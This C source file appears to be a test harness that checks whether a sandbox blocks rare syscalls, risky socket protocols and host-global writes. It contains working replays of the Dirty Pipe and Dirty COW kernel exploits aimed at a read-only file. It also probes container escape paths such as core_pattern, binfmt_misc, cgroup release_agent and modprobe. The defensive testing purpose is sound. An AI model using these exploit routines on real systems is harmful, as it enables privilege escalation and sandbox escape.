/* attack-rare — rarely needed kernel surface and host-global writes.
 *
 * usage: attack-rare GROUP [ARGS]
 *   sockproto           AF_INET/AF_INET6 sockets of protocols with a history
 *                       of kernel bugs (SCTP, DCCP, MPTCP, L2TP, UDP-Lite,
 *                       ping, IGMP): the families are allowed, the protocols
 *                       must not be.
 *   mm                  process_madvise, process_mrelease, memfd_secret,
 *                       NUMA policy calls, remap_file_pages, AIO, kcmp.
 *   time                settimeofday/clock_settime/adjtimex/clock_adjtime
 *                       (to the current time: harmless even if it worked).
 *   handle HEX [FILE]   open_by_handle_at with a real handle of the canary
 *                       (made outside by `handle-of PATH`) and with one
 *                       the box makes itself of FILE.
 *   handle-of PATH      (outside) prints PATH's file handle in hex.
 *   bugs RO_FILE        replays of page-cache write bugs against a
 *                       read-only grant: Dirty Pipe (CVE-2022-0847),
 *                       /proc/self/mem into a shared read-only mapping,
 *                       Dirty COW (CVE-2016-5195) for one second.
 *   corepattern | binfmt TOKEN | uevent | release-agent | sysrq |
 *   procsys             host-global files with a known escape path: each
 *                       write puts back the value just read (or a harmless
 *                       registration), so that a success harms nothing.
 * Every refused call prints "denied"; the exit status counts successes. */
#include <linux/aio_abi.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "attack.h"

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef IPPROTO_L2TP
#define IPPROTO_L2TP 115
#endif
#ifndef IPPROTO_SMC
#define IPPROTO_SMC 256
#endif
#ifndef SOCK_DCCP
#define SOCK_DCCP 6
#endif

static void group_sockproto(void)
{
	static const struct {
		int family, type, proto;
		const char *name;
	} s[] = {
		{AF_INET, SOCK_STREAM, IPPROTO_SCTP, "AF_INET/SCTP stream"},
		{AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP, "AF_INET/SCTP seqpacket"},
		{AF_INET6, SOCK_STREAM, IPPROTO_SCTP, "AF_INET6/SCTP stream"},
		{AF_INET, SOCK_DCCP, IPPROTO_DCCP, "AF_INET/DCCP"},
		{AF_INET6, SOCK_DCCP, IPPROTO_DCCP, "AF_INET6/DCCP"},
		{AF_INET, SOCK_STREAM, IPPROTO_MPTCP, "AF_INET/MPTCP"},
		{AF_INET6, SOCK_STREAM, IPPROTO_MPTCP, "AF_INET6/MPTCP"},
		{AF_INET, SOCK_DGRAM, IPPROTO_L2TP, "AF_INET/L2TP"},
		{AF_INET6, SOCK_DGRAM, IPPROTO_L2TP, "AF_INET6/L2TP"},
		{AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE, "AF_INET/UDP-Lite"},
		{AF_INET6, SOCK_DGRAM, IPPROTO_UDPLITE, "AF_INET6/UDP-Lite"},
		{AF_INET, SOCK_DGRAM, IPPROTO_ICMP, "AF_INET/ICMP ping"},
		{AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6, "AF_INET6/ICMPv6 ping"},
		{AF_INET, SOCK_RAW, IPPROTO_IGMP, "AF_INET/IGMP raw"},
		{AF_INET, SOCK_RAW, IPPROTO_RAW, "AF_INET/IPPROTO_RAW"},
		{AF_INET, SOCK_STREAM, IPPROTO_SMC, "AF_INET/SMC"},
		{AF_INET, SOCK_STREAM, IPPROTO_TCP | (1L << 8), "AF_INET/TCP|0x100 (MPTCP)"},
	};
	char what[128];
	for (size_t i = 0; i < sizeof(s) / sizeof(s[0]); i++) {
		snprintf(what, sizeof(what), "socket(%s)", s[i].name);
		int fd = (int)deny(what, socket(s[i].family, s[i].type | SOCK_CLOEXEC, s[i].proto));
		if (fd >= 0)
			close(fd);
	}
	/* The kernel reads protocol as an int: high bits must not carry a
	 * refused protocol past a filter that compares 64 bits. */
	deny("socket(AF_INET, SOCK_STREAM, SCTP | 1 << 32)",
	     syscall(SYS_socket, AF_INET, SOCK_STREAM, (long)IPPROTO_SCTP | (1L << 32)));
	show("socket(AF_INET, SOCK_STREAM, 0)", socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
	show("socket(AF_INET, SOCK_STREAM, IPPROTO_TCP)",
	     socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, IPPROTO_TCP));
	show("socket(AF_INET6, SOCK_DGRAM, IPPROTO_UDP)",
	     socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_UDP));
}

static void group_mm(void)
{
	int self = (int)show("pidfd_open(self)", syscall(SYS_pidfd_open, getpid(), 0));
	char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct iovec iov = {page, 4096};
	deny("process_madvise(self, MADV_COLD)",
	     syscall(SYS_process_madvise, self, &iov, 1, 20 /* MADV_COLD */, 0));
	deny("process_mrelease(self)", syscall(SYS_process_mrelease, self, 0));
	deny("memfd_secret()", syscall(447 /* memfd_secret */, 0));
	unsigned long mask = 1;
	deny("set_mempolicy(MPOL_BIND, node 0)", syscall(SYS_set_mempolicy, 2, &mask, 64));
	deny("mbind(page, MPOL_BIND, node 0)", syscall(SYS_mbind, page, 4096, 2, &mask, 64, 0));
	deny("migrate_pages(self, 0 -> 0)", syscall(SYS_migrate_pages, 0, 64, &mask, &mask));
	void *pages[1] = {page};
	int status[1];
	deny("move_pages(self, query)", syscall(SYS_move_pages, 0, 1, pages, NULL, status, 0));
	deny("remap_file_pages(page)", syscall(SYS_remap_file_pages, page, 4096, 0, 0, 0));
	aio_context_t ctx = 0;
	deny("io_setup(128)", syscall(SYS_io_setup, 128, &ctx));
	deny("kcmp(self, self, KCMP_VM)", syscall(SYS_kcmp, getpid(), getpid(), 1, 0, 0));
	deny("mlockall(MCL_CURRENT)", mlockall(MCL_CURRENT));
	deny("lookup_dcookie", syscall(SYS_lookup_dcookie, 0, NULL, 0));
	deny("quotactl(Q_SYNC)", syscall(SYS_quotactl, 0x800001 /* QCMD(Q_SYNC, USRQUOTA) */, NULL, 0, NULL));
	deny("uselib(/bin/true)", syscall(SYS_uselib, "/bin/true"));
	deny("fspick(/, 0)", syscall(SYS_fspick, AT_FDCWD, "/", 0));
	deny("syncfs(0)", syscall(SYS_syncfs, 0));
}

static void group_time(void)
{
	struct timeval tv;
	gettimeofday(&tv, NULL);
	deny("settimeofday(now)", settimeofday(&tv, NULL));
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	deny("clock_settime(CLOCK_REALTIME, now)", clock_settime(CLOCK_REALTIME, &ts));
	/* modes 0 only reads: refused by the filter, not the kernel. */
	struct timex tx = {.modes = 0};
	deny("adjtimex(read)", syscall(SYS_adjtimex, &tx));
	struct timex tx2 = {.modes = ADJ_OFFSET | ADJ_STATUS, .status = tx.status, .offset = 0};
	deny("adjtimex(ADJ_OFFSET 0)", syscall(SYS_adjtimex, &tx2));
	deny("clock_adjtime(CLOCK_REALTIME, ADJ_OFFSET 0)",
	     syscall(SYS_clock_adjtime, CLOCK_REALTIME, &tx2));
}

static int hexval(char c)
{
	return c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

/* A file handle with room for MAX_HANDLE_SZ bytes. */
static struct file_handle *new_handle(void)
{
	struct file_handle *fh = calloc(1, sizeof(*fh) + 128);
	if (!fh)
		exit(1);
	fh->handle_bytes = 128;
	return fh;
}

static void handle_of(const char *path)
{
	struct file_handle *fh = new_handle();
	int mnt;
	if (show("name_to_handle_at", name_to_handle_at(AT_FDCWD, path, fh, &mnt, 0)) < 0)
		exit(1);
	printf("HANDLE %d:", fh->handle_type);
	unsigned char *b = (unsigned char *)fh + sizeof(*fh);
	for (unsigned i = 0; i < fh->handle_bytes; i++)
		printf("%02x", b[i]);
	printf("\n");
}

static void try_handle(const char *what, struct file_handle *fh)
{
	const char *dirs[] = {"/", "/tmp", "/proc", "/usr", "."};
	for (size_t i = 0; i < sizeof(dirs) / sizeof(*dirs); i++) {
		int mfd = open(dirs[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		char w[256];
		snprintf(w, sizeof(w), "open_by_handle_at(%s, %s)", dirs[i], what);
		int fd = (int)deny(w, open_by_handle_at(mfd, fh, O_RDONLY));
		if (fd >= 0) {
			dump_fd(what, fd);
			close(fd);
		}
		close(mfd);
	}
}

static void group_handle(const char *hex, const char *own)
{
	struct file_handle *fh = new_handle();
	unsigned char *b = (unsigned char *)fh + sizeof(*fh);
	const char *colon = strchr(hex, ':');
	fh->handle_type = atoi(hex);
	unsigned n = 0;
	for (const char *p = colon ? colon + 1 : hex; p[0] && p[1] && n < 128; p += 2)
		b[n++] = (unsigned char)(hexval(p[0]) << 4 | hexval(p[1]));
	fh->handle_bytes = n;
	try_handle("the canary's handle", fh);
	if (own) {
		struct file_handle *o = new_handle();
		unsigned char *ob = (unsigned char *)o + sizeof(*o);
		int mnt;
		if (show("name_to_handle_at(granted file)",
			 name_to_handle_at(AT_FDCWD, own, o, &mnt, 0)) == 0) {
			try_handle("the granted file's handle", o);
			/* Neighbouring inode numbers of the same filesystem. */
			for (int d = -3; d <= 3; d++) {
				if (o->handle_bytes >= 4 && d) {
					unsigned ino;
					memcpy(&ino, ob, 4);
					unsigned moved = ino + (unsigned)d;
					memcpy(ob, &moved, 4);
					try_handle("a neighbour's handle", o);
					memcpy(ob, &ino, 4);
				}
			}
		}
		free(o);
	}
	free(fh);
}

static volatile int race_stop;
static char *cow_map;

static void *cow_madvise(void *arg)
{
	(void)arg;
	while (!race_stop)
		madvise(cow_map, 4096, MADV_DONTNEED);
	return NULL;
}

static void group_bugs(const char *ro)
{
	/* Dirty Pipe: splice a page of the file into a pipe whose buffers
	 * were left with PIPE_BUF_FLAG_CAN_MERGE, then write into the pipe. */
	int fd = open(ro, O_RDONLY | O_CLOEXEC);
	if (show("open(read-only grant)", fd) < 0)
		return;
	int p[2];
	if (pipe(p) == 0) {
		int sz = fcntl(p[1], F_GETPIPE_SZ);
		static char buf[65536];
		for (int left = sz; left > 0; left -= (int)sizeof(buf) < left ? (int)sizeof(buf) : left)
			if (write(p[1], buf, (size_t)((int)sizeof(buf) < left ? (int)sizeof(buf) : left)) < 0)
				break;
		for (int left = sz; left > 0; left -= (int)sizeof(buf) < left ? (int)sizeof(buf) : left)
			if (read(p[0], buf, (size_t)((int)sizeof(buf) < left ? (int)sizeof(buf) : left)) < 0)
				break;
		loff_t off = 0;
		show("splice(file offset 0 -> pipe, 1)", splice(fd, &off, p[1], NULL, 1, 0));
		show("write(pipe, 'PWNED')", write(p[1], "PWNED", 5));
		close(p[0]);
		close(p[1]);
	}
	/* /proc/self/mem into a shared read-only mapping (FOLL_FORCE). */
	char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (show("mmap(read-only grant, MAP_SHARED, PROT_READ)", shared == MAP_FAILED ? -1 : 0) == 0) {
		int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
		if (show("open(/proc/self/mem, O_RDWR)", mem) >= 0) {
			deny("pwrite(/proc/self/mem, shared read-only mapping)",
			     pwrite(mem, "PWNED", 5, (off_t)(uintptr_t)shared));
			close(mem);
		}
		munmap(shared, 4096);
	}
	deny("mmap(read-only fd, MAP_SHARED, PROT_WRITE)",
	     mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
	deny("fallocate(read-only fd, PUNCH_HOLE)", fallocate(fd, 3, 0, 4096));
	/* Dirty COW: race MADV_DONTNEED against /proc/self/mem writes into a
	 * private mapping of the file, for one second. */
	cow_map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (cow_map != MAP_FAILED) {
		int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
		pthread_t t;
		if (mem >= 0 && pthread_create(&t, NULL, cow_madvise, NULL) == 0) {
			struct timespec start, now;
			clock_gettime(CLOCK_MONOTONIC, &start);
			long tries = 0;
			do {
				if (pwrite(mem, "PWNED", 5, (off_t)(uintptr_t)cow_map) == 5)
					tries++;
				clock_gettime(CLOCK_MONOTONIC, &now);
			} while (now.tv_sec - start.tv_sec < 1);
			race_stop = 1;
			pthread_join(t, NULL);
			say("dirty cow: %ld writes into the private copy", tries);
		}
		if (mem >= 0)
			close(mem);
	}
	close(fd);
	say("bugs: done (the driver compares the file)");
}

/* Opens path for writing and writes back what it held (or text), so
 * that a success changes nothing on the host. */
static void write_back(const char *path, const char *text)
{
	char buf[4096] = "";
	int rfd = open(path, O_RDONLY | O_CLOEXEC);
	if (rfd >= 0) {
		ssize_t n = read(rfd, buf, sizeof(buf) - 1);
		buf[n > 0 ? n : 0] = 0;
		close(rfd);
	}
	char what[4200];
	snprintf(what, sizeof(what), "open(%s, O_WRONLY)", path);
	int fd = (int)deny(what, open(path, O_WRONLY | O_CLOEXEC));
	if (fd < 0)
		return;
	const char *v = text ? text : buf;
	snprintf(what, sizeof(what), "write(%s)", path);
	deny(what, write(fd, v, strlen(v) ? strlen(v) : 1));
	close(fd);
}

static void group_corepattern(void)
{
	write_back("/proc/sys/kernel/core_pattern", NULL);
	write_back("/proc/sys/kernel/core_pipe_limit", NULL);
	write_back("/proc/sys/kernel/core_uses_pid", NULL);
	write_back("/proc/sys/fs/suid_dumpable", NULL);
	write_back("/proc/1/root/proc/sys/kernel/core_pattern", NULL);
	deny("mount(proc, /tmp/p)", (mkdir("/tmp/p", 0700), mount("proc", "/tmp/p", "proc", 0, NULL)));
	write_back("/tmp/p/sys/kernel/core_pattern", NULL);
	/* A core dump is what would run a core_pattern pipe: none may be
	 * written (RLIMIT_CORE is 0 and cannot be raised). */
	struct rlimit rl = {RLIM_INFINITY, RLIM_INFINITY};
	deny("setrlimit(RLIMIT_CORE, unlimited)", setrlimit(RLIMIT_CORE, &rl));
}

static void group_binfmt(const char *token)
{
	char reg[256];
	snprintf(reg, sizeof(reg), ":ward-escape-%s:E::wardesc::/bin/false:", token);
	const char *paths[] = {"/proc/sys/fs/binfmt_misc/register",
			       "/proc/1/root/proc/sys/fs/binfmt_misc/register",
			       "/tmp/b/register"};
	mkdir("/tmp/b", 0700);
	deny("mount(binfmt_misc, /tmp/b)", mount("binfmt_misc", "/tmp/b", "binfmt_misc", 0, NULL));
	deny("mount(binfmt_misc, /proc/sys/fs/binfmt_misc)",
	     mount("binfmt_misc", "/proc/sys/fs/binfmt_misc", "binfmt_misc", 0, NULL));
	for (size_t i = 0; i < sizeof(paths) / sizeof(*paths); i++)
		write_back(paths[i], reg);
	write_back("/proc/sys/fs/binfmt_misc/status", NULL);
}

static void group_uevent(void)
{
	write_back("/sys/kernel/uevent_helper", NULL);
	write_back("/proc/sys/kernel/hotplug", NULL);
	write_back("/sys/kernel/uevent_seqnum", NULL);
	mkdir("/tmp/s", 0700);
	deny("mount(sysfs, /tmp/s)", mount("sysfs", "/tmp/s", "sysfs", 0, NULL));
	write_back("/tmp/s/kernel/uevent_helper", NULL);
	write_back("/sys/class/mem/null/uevent", "add");
	int nl = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_KOBJECT_UEVENT);
	deny("socket(NETLINK_KOBJECT_UEVENT)", nl);
}

static void group_release_agent(void)
{
	mkdir("/tmp/cg", 0700);
	deny("mount(cgroup v1 none,name=wardesc)",
	     mount("cgroup", "/tmp/cg", "cgroup", 0, "none,name=wardesc"));
	deny("mount(cgroup v1 memory)", mount("cgroup", "/tmp/cg", "cgroup", 0, "memory"));
	deny("mount(cgroup v1 rdma)", mount("cgroup", "/tmp/cg", "cgroup", 0, "rdma"));
	write_back("/tmp/cg/release_agent", NULL);
	const char *ctl[] = {"memory", "pids", "cpu", "blkio", "devices", "freezer", "cpuset",
			     "systemd", "rdma", "net_cls", "perf_event", "hugetlb", "misc"};
	char p[256];
	for (size_t i = 0; i < sizeof(ctl) / sizeof(*ctl); i++) {
		snprintf(p, sizeof(p), "/sys/fs/cgroup/%s/release_agent", ctl[i]);
		write_back(p, NULL);
		snprintf(p, sizeof(p), "/sys/fs/cgroup/%s/notify_on_release", ctl[i]);
		write_back(p, NULL);
		snprintf(p, sizeof(p), "/proc/1/root/sys/fs/cgroup/%s/release_agent", ctl[i]);
		write_back(p, NULL);
	}
	/* The box's own cgroup, seen through /proc/self/cgroup. */
	FILE *f = fopen("/proc/self/cgroup", "re");
	char line[512];
	while (f && fgets(line, sizeof(line), f)) {
		say("cgroup: %s", strtok(line, "\n") ? line : "");
	}
	if (f)
		fclose(f);
}

static void group_sysrq(void)
{
	write_back("/proc/sysrq-trigger", "h");
	write_back("/proc/sys/kernel/sysrq", NULL);
	write_back("/proc/sys/kernel/modprobe", NULL);
	write_back("/proc/sys/kernel/poweroff_cmd", NULL);
	write_back("/proc/sys/kernel/usermodehelper/bset", NULL);
	write_back("/proc/sys/vm/panic_on_oom", NULL);
	write_back("/proc/sys/kernel/panic", NULL);
	/* An unknown binary format makes the kernel run modprobe_path
	 * ("binfmt-XXXX"): the exec fails, nothing of the box runs. */
	int fd = open("/tmp/unknown-format", O_CREAT | O_WRONLY | O_CLOEXEC, 0700);
	if (fd >= 0) {
		if (write(fd, "\xff\xff\xff\xff", 4) != 4)
			say("short write");
		close(fd);
		pid_t pid = fork();
		if (pid == 0) {
			execl("/tmp/unknown-format", "x", (char *)NULL);
			_exit(127);
		}
		int st = 0;
		waitpid(pid, &st, 0);
		say("exec of an unknown format: exit %d", WIFEXITED(st) ? WEXITSTATUS(st) : -1);
	}
}

static int nwritable, nscanned;

/* Tries every regular file under dir for O_WRONLY (never writes). */
static void scan(const char *dir, int depth)
{
	if (depth > 6)
		return;
	DIR *d = opendir(dir);
	if (!d)
		return;
	struct dirent *de;
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		char p[4096];
		snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
		struct stat st;
		if (lstat(p, &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode))
			scan(p, depth + 1);
		else if (S_ISREG(st.st_mode)) {
			nscanned++;
			int fd = open(p, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
			if (fd >= 0) {
				char what[4200];
				snprintf(what, sizeof(what), "open(%s, O_WRONLY)", p);
				deny(what, fd);
				close(fd);
				nwritable++;
			}
		}
	}
	closedir(d);
}

static void group_procsys(void)
{
	scan("/proc/sys", 0);
	scan("/sys", 0);
	say("procsys: %d of %d files writable", nwritable, nscanned);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		fprintf(stderr, "usage: attack-rare GROUP [ARGS]\n");
		return 2;
	}
	const char *g = argv[1];
	if (!strcmp(g, "handle-of") && argc == 3) {
		handle_of(argv[2]);
		return 0;
	}
	if (!strcmp(g, "sockproto"))
		group_sockproto();
	else if (!strcmp(g, "mm"))
		group_mm();
	else if (!strcmp(g, "time"))
		group_time();
	else if (!strcmp(g, "handle") && argc >= 3)
		group_handle(argv[2], argc > 3 ? argv[3] : NULL);
	else if (!strcmp(g, "bugs") && argc == 3)
		group_bugs(argv[2]);
	else if (!strcmp(g, "corepattern"))
		group_corepattern();
	else if (!strcmp(g, "binfmt") && argc == 3)
		group_binfmt(argv[2]);
	else if (!strcmp(g, "uevent"))
		group_uevent();
	else if (!strcmp(g, "release-agent"))
		group_release_agent();
	else if (!strcmp(g, "sysrq"))
		group_sysrq();
	else if (!strcmp(g, "procsys"))
		group_procsys();
	else {
		fprintf(stderr, "attack-rare: unknown group '%s'\n", g);
		return 2;
	}
	return attack_exit();
}
